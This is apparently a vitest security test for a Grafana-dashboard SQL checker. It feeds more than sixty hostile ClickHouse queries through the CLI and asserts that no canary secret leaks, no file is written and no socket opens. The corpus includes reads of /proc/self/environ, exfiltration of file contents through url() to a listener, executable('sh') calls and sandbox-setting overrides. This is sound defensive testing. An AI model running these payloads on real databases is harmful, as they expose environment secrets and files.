// A corpus of hostile panel SQL through the real check: the CLI as its own process, a canary secret in
// its environment (as GITHUB_TOKEN and the Grafana token are in an Action step), a canary file outside
// the work directory, and a listener on 127.0.0.1 that every URL, S3, remote() or MySQL statement
// points at. In every output format: nothing of the canaries appears, no file is written, no socket
// is opened. (Issue 8, items 1 and 3; on the old code the first statement alone leaked the variable.)
import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/core/types.js';
import {
  ROOT,
  hostileDashboard,
  leaks,
  makeCanary,
  runCliProcess,
  startListener,
  tree,
  type Canary,
  type Listener,
} from './support.js';

/** Hostile statements; {F} the canary file, {D} its folder, {O} a path that must never appear, {P} the listener's port. */
export const HOSTILE_PANEL_SQL: readonly string[] = [
  // Reading files: the scalar file(), folded while the query is planned (issue 8 item 1).
  "SELECT toUInt8(extract(file('/proc/self/environ'), 'DCI_CANARY=(\\\\S+)'))",
  "SELECT file('/proc/self/environ')",
  "SELECT hex(file('/proc/self/environ'))",
  "SELECT base64Encode(file('{F}'))",
  "SELECT toUInt64(file('{F}'))",
  "SELECT FILE('{F}')",
  "SELECT `file`('{F}')",
  "SELECT `\\x66ile`('{F}')",
  "-- a comment first\nSELECT file('{F}')",
  "/* a comment first */ SELECT throwIf(1, file('{F}'))",
  "SELECT arrayMap(x -> file(x), ['{F}'])",
  "WITH (SELECT file('{F}')) AS s SELECT toUInt8(s)",
  "SELECT (SELECT file('/proc/self/environ'))",
  "SELECT * FROM view(SELECT file('{F}'))",
  "SELECT 1 AS `x\n Function numbers`, file('{F}')",
  // Reading files as tables.
  "SELECT * FROM file('{F}', 'LineAsString')",
  "SELECT * FROM file('/proc/self/environ', 'RawBLOB')",
  "SELECT * FROM fileCluster('default', '{F}', 'LineAsString')",
  'SELECT * FROM `{F}`',
  'SELECT * FROM default.`{F}`',
  'SELECT * FROM `/proc/self/environ`',
  "SELECT * FROM filesystem('{D}')",
  "SELECT * FROM sqlite('{F}', 't')",
  "SELECT * FROM icebergLocal('{D}')",
  "SELECT * FROM deltaLakeLocal('{D}')",
  "SELECT * FROM paimonLocal('{D}')",
  "SELECT * FROM (SELECT * FROM file('{F}', 'LineAsString'))",
  'SELECT showCertificate()',
  "SELECT catboostEvaluate('{F}', 1)",
  'SELECT addressToLine(toUInt64(1)) SETTINGS allow_introspection_functions = 1',
  // The network.
  "SELECT * FROM url('http://127.0.0.1:{P}/', 'CSV', 'a String')",
  "SELECT * FROM url(concat('http://127.0.0.1:{P}/?', base64Encode(file('{F}'))), 'CSV', 'a String')",
  "SELECT * FROM urlCluster('default', 'http://127.0.0.1:{P}/', 'CSV', 'a String')",
  "SELECT * FROM s3('http://127.0.0.1:{P}/bucket/key.csv', 'CSV', 'a String')",
  "SELECT * FROM s3Cluster('default', 'http://127.0.0.1:{P}/bucket/key.csv', 'CSV', 'a String')",
  "SELECT * FROM gcs('http://127.0.0.1:{P}/bucket/key.csv', 'CSV', 'a String')",
  "SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;AccountName=a;AccountKey=YQ==;BlobEndpoint=http://127.0.0.1:{P}/a;', 'c', 'k.csv')",
  "SELECT * FROM hdfs('hdfs://127.0.0.1:{P}/x', 'CSV', 'a String')",
  "SELECT * FROM iceberg('http://127.0.0.1:{P}/bucket/t/')",
  "SELECT * FROM deltaLake('http://127.0.0.1:{P}/bucket/t/')",
  "SELECT * FROM hudi('http://127.0.0.1:{P}/bucket/t/')",
  "SELECT * FROM remote('127.0.0.1:{P}', system.one)",
  "SELECT * FROM remoteSecure('127.0.0.1:{P}', system.one)",
  "SELECT * FROM cluster('default', system.one)",
  "SELECT * FROM clusterAllReplicas('default', system.one)",
  "SELECT * FROM mysql('127.0.0.1:{P}', 'db', 't', 'u', 'p')",
  "SELECT * FROM postgresql('127.0.0.1:{P}', 'db', 't', 'u', 'p')",
  "SELECT * FROM mongodb('127.0.0.1:{P}', 'db', 'c', 'u', 'p', 'a String')",
  "SELECT * FROM redis('127.0.0.1:{P}', 'k', 'k String, v String')",
  "SELECT * FROM jdbc('jdbc:mysql://127.0.0.1:{P}/db', 't')",
  "SELECT * FROM odbc('DSN=x', 'db', 't')",
  "SELECT * FROM prometheusQuery('http://127.0.0.1:{P}', 'up', now())",
  "SELECT * FROM ytsaurus('http://127.0.0.1:{P}', '//t', 'token', 'a String')",
  "SELECT aiGenerate('hello')",
  "SELECT hasColumnInTable('127.0.0.1:{P}', 'u', 'p', 'db', 't', 'c')",
  "SELECT number FROM numbers(1) WHERE number IN (SELECT * FROM remote('127.0.0.1:{P}', system.one))",
  "SELECT * FROM numbers(1) JOIN url('http://127.0.0.1:{P}/', CSV, 'number UInt64') USING number",
  // Processes, SQL from strings, streams.
  "SELECT * FROM executable('sh', 'CSV', 'a String', (SELECT 'x'))",
  "SELECT * FROM eval('SELECT file(''{F}'')') SETTINGS allow_experimental_eval_table_function = 1",
  "SELECT * FROM input('a String')",
  "SELECT * FROM (EXPLAIN PIPELINE SELECT file('{F}'))",
  // Writes and second statements.
  "SELECT 1 INTO OUTFILE '{O}/outfile.txt'",
  "SELECT 1 INTO OUTFILE '{O}/outfile2.txt' TRUNCATE FORMAT CSV",
  "SELECT 1; INSERT INTO FUNCTION file('{O}/multi.js', 'CSV', 'a UInt8') SELECT 1",
  "SELECT 1 PARALLEL WITH INSERT INTO FUNCTION file('{O}/parallel.js', 'CSV', 'a UInt8') SELECT 1",
  "INSERT INTO FUNCTION file('{O}/insert.js', 'CSV', 'a UInt8') SELECT 1",
  "CREATE TABLE x (a String) ENGINE = URL('http://127.0.0.1:{P}/', CSV)",
  'SYSTEM RELOAD CONFIG',
  'SET readonly = 0',
  // The bounds and the switches of the sandbox.
  'SELECT 1 SETTINGS readonly = 0',
  'SELECT count() FROM numbers(100000000000) SETTINGS max_rows_to_read = 0',
  'SELECT (SELECT count() FROM numbers(10000000000)) SETTINGS max_execution_time = 0',
  'SELECT 1 SETTINGS allow_introspection_functions = 1, implicit_select = 1',
  // A text EXPLAIN once turned into a statement of its own (issue 8 item 3).
  "-- x\n, 1 AS EXPLAIN, throwIf(number > 5, 'RAN') FROM numbers(10)",
  "/* x */, 1 AS EXPLAIN, throwIf(number > 5, 'RAN') FROM numbers(10)",
  "# x\n, 1 AS EXPLAIN, throwIf(number > 5, 'RAN') FROM numbers(10)",
];

let canary: Canary;
let listener: Listener;
let work: string;

function fill(sql: string): string {
  return sql
    .replaceAll('{F}', canary.path)
    .replaceAll('{D}', canary.dir)
    .replaceAll('{O}', canary.out)
    .replaceAll('{P}', String(listener.port));
}

beforeAll(async () => {
  canary = makeCanary();
  listener = await startListener();
  work = await mkdtemp(path.join(os.tmpdir(), 'dci-hostile-'));
  await cp(path.join(ROOT, 'test/fixtures/cli'), work, { recursive: true });
  await rm(path.join(work, 'dashboards'), { recursive: true });
  await cp(
    path.join(ROOT, 'test/fixtures/cli/dashboards/good.json'),
    path.join(work, 'dashboards/good.json'),
  );
  await writeFile(path.join(work, 'dashboards/hostile.json'), hostileDashboard(HOSTILE_PANEL_SQL.map(fill)));
});

afterAll(async () => {
  await listener?.close();
  canary?.close();
  if (work) await rm(work, { recursive: true, force: true });
});

describe('hostile panel SQL through the real check', () => {
  it('has at least 60 statements', () => {
    expect(HOSTILE_PANEL_SQL.length).toBeGreaterThanOrEqual(60);
  });

  it.each(['json', 'text', 'markdown', 'sarif'])(
    'leaks nothing, writes nothing, connects nowhere: --format %s',
    async (format) => {
      const before = tree(work);
      const canaryBefore = tree(canary.dir);
      const run = await runCliProcess(work, ['check', '--format', format], {
        DCI_CANARY: canary.env,
        'INPUT_GITHUB-TOKEN': canary.env,
        GRAFANA_TOKEN: canary.env,
        CLICKHOUSE_PASSWORD: canary.env,
      });
      expect(run.code, run.stderr).toBe(1);
      expect(leaks(run.stdout, canary)).toEqual([]);
      expect(leaks(run.stderr, canary)).toEqual([]);
      expect(listener.connections()).toBe(0);
      expect(existsSync(canary.out)).toBe(false);
      expect(tree(canary.dir)).toEqual(canaryBefore);
      expect(tree(work)).toEqual(before);
      if (format === 'json') {
        const report = JSON.parse(run.stdout) as Report;
        const hostile = report.queries.filter((q) => q.dashboardUid === 'hostile');
        expect(hostile).toHaveLength(HOSTILE_PANEL_SQL.length);
        // The good dashboard is still checked beside them.
        expect(report.queries.find((q) => q.dashboardUid === 'cli-good')).toMatchObject({ status: 'ok' });
        for (const q of hostile) {
          // Nothing ran: no throwIf fired, no file content was parsed, no bound was lifted.
          expect(q.error?.code, q.sql).not.toBe(395);
          expect(q.status, q.sql).not.toBe('ok');
        }
      }
    },
    180_000,
  );
});
